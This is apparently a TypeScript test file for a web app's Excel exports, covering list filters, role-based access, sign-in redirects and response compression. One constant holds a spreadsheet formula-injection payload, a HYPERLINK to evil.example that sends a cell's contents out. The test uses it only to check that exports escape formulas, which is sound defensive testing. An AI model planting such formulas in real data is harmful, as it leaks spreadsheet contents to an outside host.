/**
 * Lists people can work with (issue 14 §6–§7): the Excel exports of the lists carry the filters
 * and escape formulas; compressed answers.
 */
import { expect } from "chai";
import { readSheet } from "read-excel-file/node";
import request from "supertest";
import { createWorld, orderBody, type World } from "../../support/testApp.js";
import { allowPageSignIn, pageAgent } from "../../support/pageAgent.js";

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

/** Reads a binary answer as a Buffer (supertest leaves unknown types as text otherwise). */
function binary(res: request.Response, cb: (err: Error | null, body: Buffer) => void) {
  const chunks: Buffer[] = [];
  res.on("data", (c: Buffer) => chunks.push(c));
  res.on("end", () => cb(null, Buffer.concat(chunks)));
}

async function sheet(agent: ReturnType<typeof request.agent>, url: string, n = 1) {
  const res = await agent.get(url).buffer(true).parse(binary);
  expect(res.status, url).to.equal(200);
  expect(res.headers["content-type"]).to.contain("spreadsheetml");
  expect(res.headers["content-disposition"]).to.match(/^attachment; filename\*=UTF-8''.+\.xlsx$/);
  return (await readSheet(res.body as Buffer, n)) as unknown[][];
}

describe("list exports and compression", () => {
  let w: World;
  before(async () => {
    w = await createWorld();
    await allowPageSignIn(w);
    await w
      .as("agency")
      .post("/api/v1/assignments", orderBody({ title: HOSTILE }))
      .expect(201);
    await w
      .as("agency")
      .post("/api/v1/assignments", orderBody({ title: "Dự án cải tạo lòng hồ", type: "consultancy" }));
  });

  it("exports the assignment list with the page's filters, formulas escaped", async () => {
    const { agent } = await pageAgent(w, "secretariat");
    const page = await agent.get("/assignments?q=hyperlink").expect(200);
    const href = /href="(\/exports\/assignments\.xlsx[^"]*)"/
      .exec(page.text)?.[1]
      ?.replace(/&#x3D;/g, "=")
      .replace(/&amp;/g, "&");
    expect(href, "export link on the list page").to.equal("/exports/assignments.xlsx?q=hyperlink");
    const rows = await sheet(agent, href!);
    expect(rows[0]).to.include("Nhiệm vụ").and.to.include("Cơ quan đặt hàng");
    expect(rows).to.have.length(2); // the header and the one match
    expect(rows[1][1]).to.equal(`'${HOSTILE}`);
    const all = await sheet(agent, "/exports/assignments.xlsx");
    expect(all).to.have.length(3);
    expect(all.map((r) => r[1])).to.include("Dự án cải tạo lòng hồ");
  });

  it("exports the registers, the document register and the experts to those who may read them", async () => {
    const clerk = await pageAgent(w, "clerk");
    const year = new Date(w.clock.now()).getUTCFullYear();
    expect((await clerk.agent.get(`/registers?year=${year}`)).text).to.contain(`/exports/registers.xlsx?year=${year}`);
    const incoming = await sheet(clerk.agent, `/exports/registers.xlsx?year=${year}`);
    expect(incoming).to.have.length(3);
    expect(incoming.some((r) => r.includes(`'${HOSTILE}`))).to.equal(true);
    await sheet(clerk.agent, "/exports/documents.xlsx");
    await clerk.agent.get("/exports/experts.xlsx").expect(403);
    const admin = await pageAgent(w, "admin");
    const experts = await sheet(admin.agent, "/exports/experts.xlsx");
    expect(experts).to.have.length(11);
    expect(experts.map((r) => r[0])).to.include("Trần Đức Hưng");
    const agency = await pageAgent(w, "agency");
    await agency.agent.get("/exports/registers.xlsx").expect(403);
    await agency.agent.get("/exports/documents.xlsx").expect(403);
    const mine = await sheet(agency.agent, "/exports/assignments.xlsx");
    expect(mine).to.have.length(3);
    const other = await pageAgent(w, "otheragency");
    expect(await sheet(other.agent, "/exports/assignments.xlsx")).to.have.length(1);
  });

  it("refuses an export to someone not signed in", async () => {
    const res = await request(w.app).get("/exports/assignments.xlsx");
    expect(res.status).to.equal(303);
    expect(res.headers.location).to.match(/^\/login/);
  });

  it("compresses pages and JSON with brotli or gzip, never a PDF or a workbook", async () => {
    const { agent } = await pageAgent(w, "secretariat");
    const br = await agent.get("/assignments").set("Accept-Encoding", "br, gzip").expect(200);
    expect(br.headers["content-encoding"]).to.equal("br");
    const gz = await agent.get("/assignments").set("Accept-Encoding", "gzip").expect(200);
    expect(gz.headers["content-encoding"]).to.equal("gzip");
    const css = await request(w.app).get("/static/app.css").set("Accept-Encoding", "gzip").expect(200);
    expect(css.headers["content-encoding"]).to.equal("gzip");
    const xlsx = await agent.get("/exports/assignments.xlsx").set("Accept-Encoding", "gzip, br");
    expect(xlsx.headers["content-encoding"]).to.equal(undefined);
    const none = await agent.get("/assignments").set("Accept-Encoding", "identity").expect(200);
    expect(none.headers["content-encoding"]).to.equal(undefined);
  });
});
